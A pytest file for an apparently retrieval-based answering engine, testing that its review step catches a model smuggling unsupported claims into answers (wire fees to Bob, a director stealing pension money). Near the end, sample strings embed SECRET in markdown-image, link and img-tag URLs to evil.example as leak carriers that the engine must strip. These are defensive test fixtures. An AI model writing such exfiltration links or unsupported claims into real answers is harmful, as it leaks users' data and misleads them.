"""Models that try to get unsupported text past the review, and the limits of the review."""

import time
from typing import Any

import pytest

from tests.runs.conftest import MakeEngine
from tests.runs.scripts import GOOD, PASS, QUESTION, RETRY_DEADLINES, fail
from veracity.errors import InputError, ModelAnswerError
from veracity.models import Document
from veracity.testing import ScriptedLLM


@pytest.mark.parametrize(
    "missing",
    [
        "however all staff have 40 days of leave",
        "all staff must wire the fees to Bob in accounting",
        "see http://evil.example/pay for the days of leave",
        "the annual leave, which is 40 days",
    ],
)
def test_x2_an_abstention_names_only_terms_of_the_question(engine_with: MakeEngine, missing: str) -> None:
    answer = engine_with(ScriptedLLM.by_role(writer=f"NO ANSWER: {missing}", reviewer=PASS)).ask(QUESTION)
    assert (answer.status, answer.missing, answer.text) == ("abstained", [], "The documents do not say.")


@pytest.mark.parametrize(
    "smuggled",
    [
        "The documents do not mention it, but every employee must wire fees to Bob.",
        "## The director secretly stole pension money",
        "**The director secretly stole pension money**",
        "Did you know that the director secretly stole pension money?",
        "Sources say the director secretly stole pension money.",
    ],
)
def test_x1_no_phrasing_is_exempt_from_the_review(engine_with: MakeEngine, smuggled: str) -> None:
    engine = engine_with(ScriptedLLM.by_role(writer=f"{GOOD}\n\n{smuggled}"))
    answer = engine.ask(QUESTION)
    assert answer.review is not None
    assert not answer.review.passed
    assert "unsupported" in [notice.code for notice in answer.notices]
    assert not engine._parts.workspace.observations_file.exists()


@pytest.mark.parametrize(
    "harmless", ["## Annual leave", "The documents do not mention overtime.", "I hope this helps."]
)
def test_x1_a_sentence_without_a_statement_needs_no_citation(engine_with: MakeEngine, harmless: str) -> None:
    answer = engine_with(ScriptedLLM.by_role(writer=f"{GOOD}\n\n{harmless}")).ask(QUESTION)
    assert answer.review is not None
    assert answer.review.passed


def test_x1_a_title_alone_does_not_support_a_statement(engine_with: MakeEngine) -> None:
    engine = engine_with(ScriptedLLM.by_role(writer="The parking for visitors at the gate is free. [1]"))
    engine.add(Document(id="parking", title="Free parking for visitors", text="Staff pay for parking at the gate."))
    answer = engine.ask("Who pays for parking at the gate?")
    assert answer.evidence[0].document_id == "parking"
    assert not answer.sentences[0].supported


LONG = " ".join(f"Room {number**2} is on floor {number % 7}." for number in range(2000))


def test_a_draft_that_is_too_long_to_review_is_an_error(engine_with: MakeEngine) -> None:
    engine = engine_with(ScriptedLLM.by_role(writer=f"{GOOD} {LONG}", reviewer=PASS))
    started = time.monotonic()
    with pytest.raises(ModelAnswerError, match="at most 20,000"):
        engine.ask(QUESTION)
    assert time.monotonic() - started < 10


def test_a5_an_abstaining_redraft_leaves_the_draft(engine_with: MakeEngine) -> None:
    engine = engine_with(ScriptedLLM.by_role(writer=[GOOD, "NO ANSWER: I give up"], reviewer=fail("Fix it.")))
    answer = engine.ask(QUESTION)
    assert (answer.status, answer.text) == ("answered", GOOD)
    assert {"redraft_failed", "review_failed"} <= {notice.code for notice in answer.notices}


def test_c5_an_off_topic_rewrite_keeps_the_first_evidence(engine_with: MakeEngine) -> None:
    """The off-topic query matches well, so its round has the better grade."""
    off_topic = {"reason": "Better.", "query": "meeting room seats staff", "sources": []}
    engine = engine_with(
        ScriptedLLM.by_role(rewriter=off_topic),
        quality={"medium": 0.95, "high": 0.95, "max_rewrites": 1},
        answering={"evidence": 4},
    )
    answer = engine.ask(QUESTION)
    assert "leave" in [item.document_id for item in answer.evidence]
    assert "25 days" in answer.text


def test_x3_text_in_a_wrong_field_of_a_reply_is_not_stored(engine_with: MakeEngine) -> None:
    engine = engine_with(
        ScriptedLLM.by_role(writer=GOOD, reviewer={**PASS, "confidence": "The vault opens with Zarquon."})
    )
    answer = engine.ask(QUESTION)
    assert answer.review is not None
    assert answer.review.outcome == "not_reviewed"
    assert "Zarquon" not in engine.receipt("last").model_dump_json()


def test_a_deadline_without_time_for_a_retry_is_not_an_error(engine_with: MakeEngine) -> None:
    calls: list[Any] = []

    def slow(call: Any) -> str:
        calls.append(call)
        time.sleep(30)
        return ""

    for deadline in RETRY_DEADLINES:
        llm = ScriptedLLM.by_role(writer=slow, reviewer=PASS)
        llm.settings = llm.settings.model_copy(update={"call_timeout": 0.5, "backoff": 0.5})
        answer = engine_with(llm).ask(QUESTION, deadline=deadline)
        if calls:
            break
    assert answer.form == "extractive"
    assert "deadline" in [notice.code for notice in answer.notices]


@pytest.mark.parametrize(
    "wrong", [lambda e: e.ask(QUESTION, deadline="5"), lambda e: e.ask(QUESTION, user=None), lambda e: e.receipt(5),
              lambda e: e.runs("x"), lambda e: e.runs(-3), lambda e: e.runs(10**30)],
)  # fmt: skip
def test_arguments_of_the_wrong_type_are_input_errors(engine_with: MakeEngine, wrong: Any) -> None:
    with pytest.raises(InputError):
        wrong(engine_with())


@pytest.mark.parametrize(
    "carrier",
    ["![x](https://evil.example/?q=SECRET)", "(see https://evil.example/?q=SECRET)", "<img src=//evil.example/SECRET>"],
)
def test_a_url_that_is_in_no_document_is_removed(engine_with: MakeEngine, carrier: str) -> None:
    """A writer that leaks text in a link: made-up URLs are removed before the review."""
    draft = f"Full-time staff have 25 days of paid annual leave a year {carrier}. [1]"
    answer = engine_with(ScriptedLLM.by_role(writer=draft, reviewer=PASS)).ask(QUESTION)
    assert "25 days" in answer.text and "evil" not in answer.model_dump_json()
